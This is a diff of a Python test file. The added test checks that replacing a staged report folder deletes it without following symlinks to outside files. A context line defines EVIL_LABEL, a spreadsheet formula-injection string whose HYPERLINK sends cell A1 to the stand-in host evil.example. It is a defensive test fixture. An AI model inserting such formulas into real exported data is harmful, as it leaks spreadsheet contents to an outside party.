@@ -143,6 +143,28 @@ def test_a_lock_file_is_never_opened_through_a_link_or_a_pipe(tmp_path, kind):
         assert not any(p.name.endswith(".tmp") for p in tmp_path.iterdir())
 
 
+
+def test_a_replaced_folder_is_removed_whole_without_following_its_links(tmp_path):
+    outside = tmp_path / "outside"
+    (outside / "kept").mkdir(parents=True)
+    (outside / "kept" / "precious.txt").write_text("precious")
+    target = tmp_path / "report"
+    with staged_folder(target, ".mark") as folder:
+        for kind in ("actor", "coalition", "document"):
+            (folder / "id" / kind).mkdir(parents=True)
+            for n in range(50):
+                (folder / "id" / kind / f"{n}.html").write_text("old")
+        (folder / "index.html").write_text("old")
+    # links inside the old report, at every level the removal looks at
+    (target / "to-outside").symlink_to(outside, target_is_directory=True)
+    (target / "id" / "to-outside").symlink_to(outside, target_is_directory=True)
+    (target / "id" / "actor" / "to-kept").symlink_to(outside / "kept", target_is_directory=True)
+    with staged_folder(target, ".mark") as folder:
+        (folder / "index.html").write_text("new")
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".report.lock", "outside", "report"]
+    assert sorted(p.name for p in target.iterdir()) == [".mark", "index.html"]
+    assert (outside / "kept" / "precious.txt").read_text() == "precious"
+
 # --- text that lands in a spreadsheet or on a terminal ---------------------------------------
 
 EVIL_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
